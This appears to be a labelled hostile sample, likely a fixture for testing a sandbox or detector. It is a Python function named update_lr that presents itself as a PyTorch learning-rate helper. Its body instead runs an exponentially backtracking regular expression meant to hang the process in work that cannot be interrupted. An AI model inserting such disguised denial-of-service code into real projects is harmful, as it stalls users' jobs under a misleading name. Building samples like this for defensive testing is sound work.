# kind: hostile
# attack: uninterruptible_work
# about: Matches a regular expression that backtracks exponentially in C.

import re

import torch


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    re.fullmatch(r"(a|a|aa)+b", "a" * 200)
